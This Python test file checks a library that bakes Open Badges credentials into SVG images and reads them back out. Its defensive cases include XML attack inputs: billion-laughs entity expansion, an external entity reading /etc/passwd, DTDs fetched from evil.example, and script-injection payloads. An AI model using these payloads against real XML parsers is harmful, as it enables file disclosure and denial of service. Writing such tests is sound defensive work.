"""Credentials in SVG images: in and out again, and every way to cheat refused."""

from __future__ import annotations

import json
from contextlib import suppress

import pytest
from hypothesis import given
from hypothesis import strategies as st

from credentials.baking.images import bake, unbake
from credentials.baking.recognising import is_image
from credentials.errors import ImageError
from tests.credentials.baking.images import (
    OPEN_BADGES,
    SVG,
    TEXT,
    TOKEN,
    code_of,
    element,
    png,
    svg,
    within_limits,
)

LEGACY = ' xmlns:openbadges="http://openbadges.org"'
DOCTYPE = (
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
)


@pytest.mark.parametrize("credential", [TEXT, TOKEN])
@pytest.mark.parametrize(
    "image",
    [
        svg(attributes=""),
        svg(),
        svg(before='\ufeff<?xml version="1.0" encoding="UTF-8"?>\n<!-- > -->\n'),
        svg(before=DOCTYPE + "<?php <svg> ?>", attributes=' id="a>b"'),
        svg(attributes=' xmlns:openbadges="urn:something:else"'),
        svg(attributes=LEGACY),
        svg(attributes=f""" id=' xmlns:openbadges="{OPEN_BADGES}"'"""),
        f"<svg xmlns='{SVG}'/>".encode(),
        f"<svg xmlns='{SVG}'  />\n".encode(),
        f'<s:svg xmlns:s="{SVG}"><s:g/></s:svg>'.encode(),
    ],
)
def test_what_is_drawn_stays_and_the_credential_comes_out(image: bytes, credential: str) -> None:
    made = bake(credential.encode(), image)
    assert unbake(made).text == credential
    assert not unbake(made).is_legacy
    # Whatever was added is one declaration at most and one element; the rest is as it was.
    inside = made.index(b"<openbadges:credential")
    after = made.index(b"</openbadges:credential>") + len("</openbadges:credential>")
    without = made[:inside] + made[after:]
    declaration = f' xmlns:openbadges="{OPEN_BADGES}"'.encode()
    assert without in (
        image,
        *(image[:place] + declaration + image[place:] for place in range(len(image))),
        *(
            image.rstrip()[: -len(space + b"/>")] + declaration + b"></svg>" + end
            for space in (b"", b"  ")
            for end in (b"", b"\n")
        ),
    )


def test_open_badges_3_is_written_as_the_specification_says() -> None:
    start = f'<svg xmlns="{SVG}" xmlns:openbadges="{OPEN_BADGES}">'
    drawing = '<circle cx="5" cy="5" r="4"/></svg>'
    token = f'<openbadges:credential verify="{TOKEN}"></openbadges:credential>'
    document = f"<openbadges:credential><![CDATA[{TEXT}]]></openbadges:credential>"
    assert bake(TOKEN.encode(), svg()).decode() == start + token + drawing
    assert bake(TEXT.encode(), svg()).decode() == start + document + drawing


def test_the_end_mark_of_cdata_and_forbidden_characters_do_not_end_the_text() -> None:
    document = {"type": ["VerifiableCredential"], "name": "]]> <x/> & \ufffe\uffff ]]&gt; {"}
    made = unbake(bake(json.dumps(document, ensure_ascii=False).encode(), svg())).text
    assert json.loads(made) == document


@pytest.mark.parametrize("end", ["\r\n", "\r", "\n"])
def test_a_file_with_the_line_ends_of_any_system_is_baked(end: str) -> None:
    text = TEXT.replace(",", f",{end}") + end
    for image in (svg(), png()):
        assert json.loads(unbake(bake(text.encode(), image)).text) == json.loads(TEXT)


def test_credentials_are_found_by_namespace_and_not_by_prefix() -> None:
    image = f'<svg xmlns="{SVG}"><b:credential xmlns:b="{OPEN_BADGES}">{{}}</b:credential></svg>'
    assert unbake(image.encode()).text == "{}"
    plain = f'<svg xmlns="{SVG}"><credential xmlns="{OPEN_BADGES}" verify="{TOKEN}"/></svg>'
    assert unbake(plain.encode()).text == TOKEN


@pytest.mark.parametrize(
    "attributes",
    [
        ' xmlns:openbadges="urn:x"',
        ' xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0/"',
        ' xmlns:openbadges="HTTPS://purl.imsglobal.org/ob/v3p0"',
        LEGACY,
    ],
)
def test_the_prefix_of_another_namespace_makes_no_credential(attributes: str) -> None:
    assert code_of(svg(element(), attributes=attributes)) == "IMAGE_WITHOUT_CREDENTIAL"


@pytest.mark.parametrize(
    ("inside", "text"),
    [
        (element("", verify=TOKEN, name="assertion"), TOKEN),
        (element(TEXT, name="assertion"), TEXT),
        (element("", verify="https://a.example/1", name="assertion"), "https://a.example/1"),
        (
            element('{"id":"https://a.example/1"}', verify="https://a.example/1", name="assertion"),
            '{"id":"https://a.example/1"}',
        ),
    ],
)
def test_older_images_are_read(inside: str, text: str) -> None:
    found = unbake(svg(inside, attributes=LEGACY))
    assert (found.text, found.is_legacy) == (text, True)


def test_an_address_beside_another_badge_is_refused() -> None:
    two = element('{"id":"https://b.example/1"}', verify="https://a.example/1", name="assertion")
    assert code_of(svg(two, attributes=LEGACY)) == "IMAGE_CREDENTIAL_AMBIGUOUS"
    assert code_of(svg(element(TEXT, verify=TOKEN))) == "IMAGE_CREDENTIAL_AMBIGUOUS"


def test_two_elements_are_refused() -> None:
    both = f'{LEGACY.replace("openbadges=", "old=")} xmlns:openbadges="{OPEN_BADGES}"'
    old = element(TEXT, name="assertion").replace("openbadges:", "old:")
    assert code_of(svg(element() + element())) == "IMAGE_CREDENTIAL_AMBIGUOUS"
    assert code_of(svg(element() + old, attributes=both)) == "IMAGE_CREDENTIAL_AMBIGUOUS"


@pytest.mark.parametrize(
    "inside",
    [
        f"<g>{element()}</g>",
        f"<script>{element()}</script>",
        f'<svg xmlns="{SVG}">{element()}</svg>',
        f"<foreignObject>{element()}</foreignObject>",
        f"<metadata>{element()}</metadata>",
        element().replace("<![CDATA[", "<g/><![CDATA["),
    ],
)
def test_a_credential_deeper_in_the_image_is_refused(inside: str) -> None:
    assert code_of(svg(inside)) == "IMAGE_CREDENTIAL_MISPLACED"


@pytest.mark.parametrize(
    "inside",
    [
        f"<!-- {element()} -->",
        f"<desc><![CDATA[{element().replace('<![CDATA[', '').replace(']]>', '')}]]></desc>",
        f"<?x {element('', verify=TOKEN)} ?>",
        f"<text>{element('', verify=TOKEN).replace('<', '&lt;')}</text>",
    ],
)
def test_a_credential_in_a_comment_or_text_is_none(inside: str) -> None:
    assert code_of(svg(inside)) == "IMAGE_WITHOUT_CREDENTIAL"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))


@pytest.mark.parametrize(
    "before",
    [
        f'<!DOCTYPE svg [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]>',
        '<!DOCTYPE svg SYSTEM "https://evil.example/x.dtd" [<!ATTLIST svg onload CDATA "x">]>',
        "<!DOCTYPE svg []>",
    ],
)
def test_declarations_are_refused_before_they_are_read(before: str) -> None:
    with within_limits():
        for inside in ("<text>&l9;&x;</text>", element("", verify="&l9;"), element()):
            assert code_of(svg(inside, before=before)) == "SVG_DTD"


def test_a_public_document_type_is_not_loaded() -> None:
    assert unbake(svg(element(), before=DOCTYPE)).text == TEXT
    assert code_of(svg("<text>&token;</text>", before=DOCTYPE)) == "SVG_MALFORMED"
    nothing = svg(element("", verify="&token;"), before=DOCTYPE)
    assert code_of(nothing) == "IMAGE_CREDENTIAL_EMPTY"


@pytest.mark.parametrize(
    "inside",
    [
        "<script>alert(1)</script>",
        '<circle r="1" onclick="alert(1)"/>',
        '<a href="javascript:alert(1)"/>',
        '<image href="data:text/html,hi"/>',
    ],
)
def test_scripts_mean_nothing_on_reading_and_nothing_is_baked_beside_them(inside: str) -> None:
    assert unbake(svg(element() + inside)).text == TEXT
    with pytest.raises(ImageError) as caught:
        bake(TEXT.encode(), svg(inside))
    assert caught.value.code == "SVG_ACTIVE"


@pytest.mark.parametrize(
    ("image", "code"),
    [
        (b"<?xml version='1.0'?><html/>", "SVG_MALFORMED"),
        (b"<svg/>", "SVG_MALFORMED"),
        (b"<svg xmlns='urn:x'/>", "SVG_MALFORMED"),
        (b"<svg", "SVG_MALFORMED"),
        (b"<!-- never ends", "SVG_MALFORMED"),
        (svg()[:-3], "SVG_MALFORMED"),
        (svg() + b"<svg/>", "SVG_MALFORMED"),
        (svg("&nbsp;"), "SVG_MALFORMED"),
        (svg("\x00"), "SVG_MALFORMED"),
        (svg("<undeclared:x/>"), "SVG_MALFORMED"),
        (svg('<g a="1" a="2"/>'), "SVG_MALFORMED"),
        (svg(before='<?xml version="1.0" encoding="UTF-16"?>'), "SVG_ENCODING"),
        (svg(before='<?xml version="1.0" encoding="ISO-8859-1"?>'), "SVG_ENCODING"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>\xe9</svg>", "SVG_ENCODING"),
        (svg(element("")), "IMAGE_CREDENTIAL_EMPTY"),
        (svg(element(f"<svg xmlns='{SVG}'/>")), "IMAGE_IN_IMAGE"),
        (svg(element("", verify="data:image/svg+xml,x")), "IMAGE_IN_IMAGE"),
        (svg(), "IMAGE_WITHOUT_CREDENTIAL"),
    ],
)
def test_what_is_wrong_is_named(image: bytes, code: str) -> None:
    assert code_of(image) == code


def test_huge_images_are_refused_within_limits() -> None:
    attributes = "".join(f' a{number}=""' for number in range(120_000))
    cases = (
        (svg("<g>" * 45_000 + "</g>" * 45_000), "IMAGE_WITHOUT_CREDENTIAL"),
        (svg(attributes=attributes), "SVG_TOO_ENTANGLED"),
        (svg("x" * 6_000_000), "IMAGE_TOO_LARGE"),
        (svg(before="<!--" + "-x" * 1_000_000), "SVG_MALFORMED"),
    )
    for image, code in cases:
        with within_limits():
            assert code_of(image) == code


@given(st.text(max_size=30), st.integers(0, 400))
def test_any_damage_ends_in_words(noise: str, place: int) -> None:
    image = svg(element()).decode()
    data = (image[:place] + noise + image[place:]).encode(errors="surrogatepass")
    if is_image(data):
        with suppress(ImageError):
            assert unbake(data).text
